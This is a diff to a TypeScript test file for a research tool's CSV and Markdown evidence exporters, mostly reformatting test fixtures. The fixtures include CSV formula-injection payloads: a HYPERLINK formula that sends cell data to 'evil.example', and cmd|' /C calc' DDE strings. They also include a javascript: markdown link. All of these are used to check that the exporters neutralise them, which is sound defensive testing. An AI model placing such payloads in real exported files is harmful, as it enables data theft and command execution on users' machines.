@@ -50,25 +50,77 @@ function parseCsv(csv: string): string[][] {
   return rows;
 }
 
-const HEADER = ['question', 'source', 'author', 'date', 'measure', 'low', 'high', 'unit', 'approx', 'status', 'preferred', 'preferred_reason', 'event', 'passage', 'quote', 'link', 'url', 'accessed'];
+const HEADER = [
+  'question',
+  'source',
+  'author',
+  'date',
+  'measure',
+  'low',
+  'high',
+  'unit',
+  'approx',
+  'status',
+  'preferred',
+  'preferred_reason',
+  'event',
+  'passage',
+  'quote',
+  'link',
+  'url',
+  'accessed',
+];
 const PROJECT = '3f2b8c1e-0d4a-4b6e-9c1f-2a7d5e8b9c10';
 
 function claim(patch: Partial<ClaimRecord>): ClaimRecord {
   return {
-    id: 1, uuid: 'c1a2b3c4-0d4a-4b6e-9c1f-2a7d5e8b9c10', sourceId: 4, sourceUuid: '5e0c7a11-0d4a-4b6e-9c1f-2a7d5e8b9c10', sourceTitle: 'T', sourceAuthor: null, sourceDate: null, quote: 'q', start: 0, end: 1, measure: 'executed', low: 5, high: 5, unit: 'people', approx: false,
-    event: '', status: 'confirmed', origin: 'manual', orphaned: false, questionId: 1, preferred: false, preferredReason: '', passage: 3, ...patch,
+    id: 1,
+    uuid: 'c1a2b3c4-0d4a-4b6e-9c1f-2a7d5e8b9c10',
+    sourceId: 4,
+    sourceUuid: '5e0c7a11-0d4a-4b6e-9c1f-2a7d5e8b9c10',
+    sourceTitle: 'T',
+    sourceAuthor: null,
+    sourceDate: null,
+    quote: 'q',
+    start: 0,
+    end: 1,
+    measure: 'executed',
+    low: 5,
+    high: 5,
+    unit: 'people',
+    approx: false,
+    event: '',
+    status: 'confirmed',
+    origin: 'manual',
+    orphaned: false,
+    questionId: 1,
+    preferred: false,
+    preferredReason: '',
+    passage: 3,
+    ...patch,
   };
 }
 
 function evidence(claims: ClaimRecord[], label = 'Q'): Evidence {
-  return { question: { id: 1, label, notes: '', claims: claims.length }, claims, span: null, median: null, outliers: [], logScale: false, unit: 'people', measure: null, period: null, warnings: [] };
+  return {
+    question: { id: 1, label, notes: '', claims: claims.length },
+    claims,
+    span: null,
+    median: null,
+    outliers: [],
+    logScale: false,
+    unit: 'people',
+    measure: null,
+    period: null,
+    warnings: [],
+  };
 }
 
 describe('evidence CSV', () => {
   it('neutralises formulas, keeps numbers in numeric columns, and reads back cell for cell', () => {
     const hostile = claim({
       sourceTitle: '=HYPERLINK("http://evil.example?x="&A1,"click")',
-      sourceAuthor: '+cmd|\' /C calc\'!A0',
+      sourceAuthor: "+cmd|' /C calc'!A0",
       sourceDate: '-2+3',
       preferredReason: '@SUM(1+1)*cmd|"/C calc"!A0',
       event: '\tTab',
@@ -109,7 +161,12 @@ describe('evidence CSV', () => {
         const rows = parseCsv(csv);
         expect(rows).toHaveLength(2);
         expect(rows[1]).toHaveLength(HEADER.length);
-        for (const [i, v] of [[0, label], [1, title], [2, author], [14, quote]] as const) {
+        for (const [i, v] of [
+          [0, label],
+          [1, title],
+          [2, author],
+          [14, quote],
+        ] as const) {
           expect(rows[1]![i]).not.toMatch(/^[=+\-@\t\r]/);
           // Exactly the text, with the guard in front where it starts like a formula.
           expect(rows[1]![i]).toBe(/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
@@ -152,7 +209,20 @@ describe('evidence CSV', () => {
 describe('evidence Markdown table', () => {
   it('keeps a | or a line break in a reason or a quote inside its cell, as text', () => {
     const md = evidenceMarkdown(
-      [evidence([claim({ quote: 'a | b\nnext line *x*', preferred: true, preferredReason: 'archival | count\nchecked <b>', sourceTitle: '[x](javascript:alert(1))', sourceDate: '1937|38' })], '# Q | 1')],
+      [
+        evidence(
+          [
+            claim({
+              quote: 'a | b\nnext line *x*',
+              preferred: true,
+              preferredReason: 'archival | count\nchecked <b>',
+              sourceTitle: '[x](javascript:alert(1))',
+              sourceDate: '1937|38',
+            }),
+          ],
+          '# Q | 1',
+        ),
+      ],
       PROJECT,
     );
     const lines = md.trim().split('\n');
@@ -160,7 +230,9 @@ describe('evidence Markdown table', () => {
     expect(table).toHaveLength(3);
     for (const l of table) expect(l.split(/(?<!\\)\|/).length).toBe(8);
     const tree = read(md);
-    expect([...tree.types].sort()).toEqual(['heading', 'link', 'paragraph', 'table', 'tableCell', 'tableRow', 'text'].filter((t) => t !== 'paragraph'));
+    expect([...tree.types].sort()).toEqual(
+      ['heading', 'link', 'paragraph', 'table', 'tableCell', 'tableRow', 'text'].filter((t) => t !== 'paragraph'),
+    );
     expect(tree.text).toContain('# Q | 1');
     expect(tree.text).toContain('a | b next line *x*');
     expect(tree.text).toContain('preferred: archival | count checked <b>');
